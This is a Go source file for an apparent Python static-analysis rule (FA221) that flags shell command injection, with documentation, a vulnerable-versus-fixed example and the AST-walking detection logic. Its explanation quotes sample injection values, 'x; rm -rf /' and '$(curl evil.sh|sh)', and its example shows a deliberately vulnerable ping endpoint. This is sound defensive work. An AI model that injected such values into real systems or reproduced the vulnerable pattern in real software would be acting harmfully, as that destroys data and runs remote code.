package rules

import (
	"github.com/fastaudit/fastaudit/analyzer"
	"github.com/fastaudit/fastaudit/analyzer/pyast"
)

var FA221 = register(&analyzer.Rule{
	Code: "FA221", Name: "shell-injection", Principle: analyzer.PrincipleSecurity, Severity: analyzer.SeverityError,
	Precision: "high", SecuritySeverity: 9.0, CWE: []string{"CWE-78"}, Since: "0.1.0",
	Summary: "A command built from a non-constant value is run through a shell (`shell=True`, `os.system`, `os.popen`, `create_subprocess_shell`).",
	Doc: analyzer.Doc{
		What: "Reports shell command lines that are not constant: `subprocess.run/call/check_call/check_output/Popen(..., shell=True)`, " +
			"`subprocess.getoutput/getstatusoutput`, `os.system`, `os.popen`, `os.popen2/3/4` and `asyncio.create_subprocess_shell` " +
			"(also `loop.subprocess_shell`-style aliases resolved through imports) whose command is an f-string, `%`/`.format`/`+` " +
			"formatting, or a name or call whose value is not a literal. Names bound only to literals (locally or at module level), " +
			"attributes of module-level objects (`settings.BACKUP_CMD`) and parts wrapped in `shlex.quote(...)`/`shlex.join(...)` count as constant.",
		Why: "A shell parses its command line: any `;`, `&&`, `|`, `$(...)` or backtick inside an interpolated value runs another command " +
			"with the server's privileges (CWE-78). A file name such as `x; rm -rf /` or a host such as `$(curl evil.sh|sh)` is enough.",
		Example: "@router.post(\"/ping\")\ndef ping(host: str):\n    out = subprocess.check_output(f\"ping -c 1 {host}\", shell=True)\n    return {\"out\": out.decode()}\n",
		UseInstead: "@router.post(\"/ping\")\ndef ping(host: str):\n    out = subprocess.check_output([\"ping\", \"-c\", \"1\", host])  # no shell\n" +
			"    return {\"out\": out.decode()}\n\n# if a shell is unavoidable, quote every value\nsubprocess.run(f\"ping -c 1 {shlex.quote(host)}\", shell=True)\n",
		Limits: "Reports every non-constant command line, whether or not its value is shown to come from the request: a command built " +
			"from configuration the analysis cannot see is reported too (quote it, or pass an argument list). `shell=` given as a " +
			"variable is not followed. Argument lists run without a shell are never reported, even when the program itself is a variable.",
		References: []string{
			"https://cwe.mitre.org/data/definitions/78.html",
			"https://docs.python.org/3/library/subprocess.html#security-considerations",
			"https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html",
		},
	},
	CheckModule: checkShellInjection,
})

// fa221ShellArg lists the functions that may run a shell, and whether they
// always do (true) or only with shell=True (false).
var fa221ShellFuncs = map[string]bool{
	"os.system": true, "os.popen": true, "os.popen2": true, "os.popen3": true, "os.popen4": true,
	"subprocess.getoutput": true, "subprocess.getstatusoutput": true, "asyncio.create_subprocess_shell": true,
	"commands.getoutput": true, "commands.getstatusoutput": true,
	"subprocess.run": false, "subprocess.call": false, "subprocess.check_call": false, "subprocess.check_output": false,
	"subprocess.Popen": false,
}

func checkShellInjection(pass *analyzer.Pass) {
	m := pass.Module
	if isTestCode(m) {
		return
	}
	for _, call := range m.Nodes("call") {
		q := calledName(m, call)
		always, ok := fa221ShellFuncs[q]
		if !ok {
			continue
		}
		if !always {
			sh := pyast.Unparen(pyast.Kwarg(call, "shell"))
			if !sh.Is("true") {
				continue
			}
		}
		cmd := pyast.Arg(call, 0)
		for _, kw := range []string{"args", "cmd", "command"} {
			if cmd == nil {
				cmd = pyast.Kwarg(call, kw)
			}
		}
		if cmd == nil {
			continue
		}
		fn := m.EnclosingFunction(call)
		part := fa221Dynamic(m, fn, cmd, 0)
		if part == nil {
			continue
		}
		name := q
		if !always {
			name += "(..., shell=True)"
		} else {
			name += "()"
		}
		pass.Report(call, "`%s` runs a shell command built from the non-constant `%s`: shell metacharacters in it run other commands (command injection); pass an argument list without `shell=True` (`subprocess.run([\"prog\", arg])`) or wrap every value in `shlex.quote(...)`",
			name, truncateExpr(part.Text()))
	}
}

// fa221Dynamic returns the first non-constant part of a command line, or nil
// when the command is constant (literals, names bound to literals, quoted parts).
func fa221Dynamic(m *analyzer.Module, fn *analyzer.Function, n *pyast.Node, depth int) *pyast.Node {
	n = pyast.Unparen(n)
	if n == nil || depth > 10 {
		return nil
	}
	switch n.Kind {
	case "string":
		for _, c := range n.Children {
			if c.Kind == "interpolation" {
				if d := fa221Dynamic(m, fn, c.ChildByField("expression"), depth+1); d != nil {
					return d
				}
			}
		}
		return nil
	case "concatenated_string":
		for _, c := range n.NamedChildren() {
			if d := fa221Dynamic(m, fn, c, depth+1); d != nil {
				return d
			}
		}
		return nil
	case "integer", "float", "true", "false", "none":
		return nil
	case "binary_operator":
		for _, side := range []*pyast.Node{n.ChildByField("left"), n.ChildByField("right")} {
			if d := fa221Dynamic(m, fn, side, depth+1); d != nil {
				return d
			}
		}
		return nil
	case "tuple", "list":
		// with shell=True only the first element is the command line
		return fa221Dynamic(m, fn, n.NamedChild(0), depth+1)
	case "conditional_expression":
		for i, c := range n.NamedChildren() {
			if i == 1 {
				continue
			}
			if d := fa221Dynamic(m, fn, c, depth+1); d != nil {
				return d
			}
		}
		return nil
	case "call":
		q := calledName(m, n)
		switch q {
		case "shlex.quote", "shlex.join", "pipes.quote", "builtins.int", "builtins.len", "builtins.float":
			return nil
		case "builtins.str":
			return fa221Dynamic(m, fn, pyast.Arg(n, 0), depth+1)
		}
		if recv, method := methodCall(n); method == "format" || method == "join" {
			if pyast.IsString(recv) {
				for _, a := range n.ChildByField("arguments").NamedChildren() {
					if a.Is("keyword_argument") {
						a = a.ChildByField("value")
					}
					if d := fa221Dynamic(m, fn, a, depth+1); d != nil {
						return d
					}
				}
				return nil
			}
		}
		return n
	case "identifier":
		if n.Text() == "__file__" {
			return nil
		}
		var bs []analyzer.Binding
		for f := fn; f != nil; f = f.Outer {
			if p := f.Param(n.Text()); p != nil {
				if taintSafeParam(m, p) {
					return nil // a number, a UUID, a Literal[...] choice
				}
				return n
			}
			if b, ok := m.Bindings(f)[n.Text()]; ok {
				bs = b
				break
			}
		}
		if bs == nil {
			v := m.Vars[n.Text()]
			if v == nil {
				if _, imported := m.Imports[n.Text()]; imported {
					return nil // an imported constant
				}
				return n
			}
			if fa221Dynamic(m, nil, v, depth+1) != nil {
				return n
			}
			return nil
		}
		for _, b := range bs {
			if b.Node.Kind != "assignment" || b.Value == nil || !b.Node.ChildByField("left").Is("identifier") {
				return n
			}
			if d := fa221Dynamic(m, fn, b.Value, depth+1); d != nil {
				if d == b.Value || d.Is("identifier") {
					return n
				}
				return d
			}
		}
		return nil
	case "attribute":
		// settings.X, config.CMD: attributes of module-level objects or imports
		root := n
		for root.Is("attribute") {
			root = pyast.Unparen(root.ChildByField("object"))
		}
		if root.Is("identifier") && !fa221LocalName(fn, root.Text()) {
			if _, imported := m.Imports[root.Text()]; imported || m.Vars[root.Text()] != nil {
				return nil
			}
		}
		return n
	}
	return n
}

// fa221LocalName reports whether name is a parameter or local of fn (or an
// enclosing function).
func fa221LocalName(fn *analyzer.Function, name string) bool {
	return fn != nil && locallyBound(fn, name)
}
